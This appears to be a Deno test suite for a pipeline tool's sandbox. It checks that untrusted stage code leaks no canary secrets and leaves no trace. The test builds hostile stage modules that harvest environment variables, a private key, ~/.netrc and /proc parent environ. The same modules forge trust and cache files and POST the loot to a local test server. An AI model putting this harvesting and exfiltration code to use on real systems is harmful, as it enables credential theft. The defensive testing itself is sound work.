import { assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import { type Call, everyCommand, writeWorkFolder } from "./every_command.ts";
import { inFolder, type Ran, tvp } from "./workplace.ts";

const stageModule = new URL("../../lib/pipeline/contract/stage.ts", import.meta.url).href;

/** Where a stranger's code lies, and what it may reach for. */
interface Reach {
  readonly folder: string;
  readonly port: number;
  /** What its stage type declares. */
  readonly permissions: readonly string[];
}

/** Code that takes what it can get, writes it, sends it and returns it. */
function taking({ folder, port }: Reach): string {
  return `function take(when: string) {
  const got = [when];
  const attempt = (name: string, f: () => unknown) => {
    try { got.push(name + "=" + f()); } catch { /* not given */ }
  };
  attempt("environment", () => JSON.stringify(Deno.env.toObject()));
  attempt("key", () => Deno.env.get("TVP_CACHE_PRIVATE_KEY"));
  attempt("home", () => Deno.readTextFileSync("${folder}/home/.netrc"));
  attempt("link", () => Deno.readTextFileSync(new URL("./link.ts", import.meta.url)));
  attempt("parent", () => Deno.readTextFileSync("/proc/" + Deno.ppid + "/environ"));
  attempt("program", () => new Deno.Command("touch", { args: ["${folder}/outside/ran"] }).outputSync().code);
  attempt("native", () => Deno.dlopen("libc.so.6", {}) && "loaded");
  attempt("trust", () => Deno.writeTextFileSync("${folder}/home/.config/tvp/trusted.txt", "0".repeat(64)));
  attempt("store", () => Deno.writeTextFileSync("${folder}/work/.tvp/cache/objects/forged", ""));
  attempt("code", () => Deno.writeTextFileSync("${folder}/work/own/more.ts", ""));
  attempt("written", () => Deno.writeTextFileSync("${folder}/outside/" + when, got.join()));
  const sent = fetch("http://127.0.0.1:${port}/" + when, { method: "POST", body: got.join() })
    .then((response) => response.body?.cancel()).catch(() => {});
  console.log(got.join());
  return { got: got.join(), sent };
}
`;
}

/** A stage type that takes as soon as it is loaded, when its schema is asked, its outputs are, and it runs. */
function stageOf(name: string, reach: Reach): string {
  return `import { z } from "zod";
import { defineStage } from "${stageModule}";
${taking(reach)}const seen = take("${name}-load").got;
export default defineStage({
  name: "${name}", description: seen, permissions: ${JSON.stringify(reach.permissions)},
  with: z.strictObject({ x: z.string().transform((x) => (take("${name}-check"), x)) }),
  outputs: { text: "text" }, isolation: "inline",
  declareOutputs: () => (take("${name}-outputs"), {}),
  async run(_, context) {
    const { got, sent } = take("${name}-run");
    await sent;
    await Deno.writeTextFile(context.output("text"), got);
  },
});
`;
}

const pipeline = `name: gift
stageFolder: ./own
datasetFolder: ./own
lossFolder: ./own
promptFolder: ./own
stages:
  a: { uses: a, with: { x: y } }
  open: { uses: open, with: { x: y } }
  b: { uses: command, with: { run: [sh, -c, "env > {outputs.t}; touch OUT/command"], outputs: { t: text } } }
`;

const secrets = {
  TVP_CACHE_TOKEN: "canary-token-1",
  AWS_SECRET_ACCESS_KEY: "canary-aws-2",
  HF_TOKEN: "canary-hf-3",
};

/** Files below a folder, with their contents. */
function contentsOf(folder: string): Record<string, string> {
  const entries = [...Deno.readDirSync(folder)].flatMap(({ name, isDirectory }) => {
    const path = `${folder}/${name}`;
    return isDirectory
      ? Object.entries(contentsOf(path)).map(([below, text]) => [`${name}/${below}`, text])
      : [[name, Deno.readTextFileSync(path)]];
  });
  return Object.fromEntries(entries);
}

/** Folder in which Deno keeps packages, for a process with another home. */
async function denoFolder(): Promise<string> {
  const { stdout } = await new Deno.Command(Deno.execPath(), { args: ["info", "--json"] }).output();
  return JSON.parse(new TextDecoder().decode(stdout)).denoDir;
}

Deno.test("every command leaves a stranger's pipeline without trace and secret, before and after a run", () =>
  inFolder(async (folder) => {
    const heard: string[] = [];
    await using server = Deno.serve(
      { port: 0, hostname: "127.0.0.1", onListen() {} },
      async (request) => {
        heard.push(`${new URL(request.url).pathname} ${await request.text()}`);
        return new Response("", { status: 404 });
      },
    );
    const work = `${folder}/work`;
    const { port } = server.addr;
    for (const name of ["work/own", "home/.config", "outside", "temporary"]) {
      Deno.mkdirSync(`${folder}/${name}`, { recursive: true });
    }
    Deno.writeTextFileSync(`${folder}/home/.netrc`, "canary-home-4");
    Deno.symlinkSync(`${folder}/home/.netrc`, `${work}/own/link.ts`);
    const write = (name: string, permissions: readonly string[]) =>
      Deno.writeTextFileSync(
        `${work}/own/${name}.ts`,
        stageOf(name, { folder, port, permissions }),
      );
    write("a", []);
    write("open", ["read", "write", "net", "run"]);
    Deno.writeTextFileSync(`${work}/p.yaml`, pipeline.replace("OUT", `${folder}/outside`));
    await writeWorkFolder(work);
    const { privateKey, publicKey } = JSON.parse((await tvp(work, "keys", "--json")).out);
    Deno.writeTextFileSync(`${work}/cache_keys.txt`, `${publicKey}\n`);
    const env = {
      ...secrets,
      TVP_CACHE_PRIVATE_KEY: privateKey,
      HOME: `${folder}/home`,
      TMPDIR: `${folder}/temporary`,
      XDG_CONFIG_HOME: "",
      XDG_CACHE_HOME: "",
      DENO_DIR: await denoFolder(),
    };
    const hidden = [...Object.values(secrets), privateKey];
    let id = "none";
    const call = async (
      args: readonly string[],
      canaries: readonly string[] = hidden,
    ): Promise<Ran> => {
      const words = args.map((word) => word.replace("FOLDER", work).replace("RUN", id));
      const ran = await tvp(work, ...words, { env });
      for (const canary of canaries) {
        assertEquals((ran.out + ran.err).includes(canary), false, `${words.join(" ")}: ${canary}`);
      }
      return ran;
    };
    /** What others than the program itself could have changed. */
    const traces = () => ({
      heard: heard.length,
      home: contentsOf(`${folder}/home`),
      outside: contentsOf(`${folder}/outside`),
      temporary: contentsOf(`${folder}/temporary`),
      own: Object.keys(contentsOf(`${work}/own`)),
    });
    const lookWithEach = async (commands: readonly Call[], canaries: readonly string[]) => {
      const before = traces();
      for (const { args } of commands) {
        const { code, err } = await call(args, canaries);
        assertEquals([0, 1, 2].includes(code), true, `${args.join(" ")}: ${err}`);
        assertEquals(traces(), before, args.join(" "));
      }
    };
    const all = Object.values(everyCommand).flat();
    await lookWithEach(all, [...hidden, "canary-"]);
    assertEquals(traces().outside, {});

    const run = await call(["run", "p.yaml", "--trust"]);
    assertEquals([run.code, run.err], [0, ""]);
    const outputs = contentsOf(`${work}/.tvp/runs/gift/latest`);
    for (const secret of hidden) {
      assertEquals(Object.values(outputs).some((text) => text.includes(secret)), false);
    }
    // What declares nothing gets its environment, and what lies beside it.
    const namesIn = (text = "") => text.match(/(?<=,)[a-z]+(?==)/g);
    assertEquals(namesIn(outputs["a/text.txt"]), ["environment", "key", "link"]);
    assertEquals(namesIn(outputs["open/text.txt"]), [
      ...["environment", "key", "home", "link", "program", "trust", "store", "code", "written"],
    ]);
    assertStringIncludes(outputs["a/text.txt"]!, "key=undefined");
    assertEquals(heard.filter((line) => line.startsWith("/a-")), []);
    assertEquals(heard.filter((line) => line.startsWith("/open-run ")).length, 1);

    id = JSON.parse((await tvp(work, "runs", "--json", { env })).out).id;
    const trusting = await call(["trust", "p.yaml"]);
    assertMatch(trusting.out, /stage type a: .*own\/a\.ts\n/);
    assertMatch(trusting.out, /stage type open \(read, write, net, run\): .*own\/open\.ts\n/);
    // Now that it is trusted it is loaded with more; what computes again is left out.
    await lookWithEach(all.filter(({ args }) => args[0] !== "verify-report"), hidden);
  }));
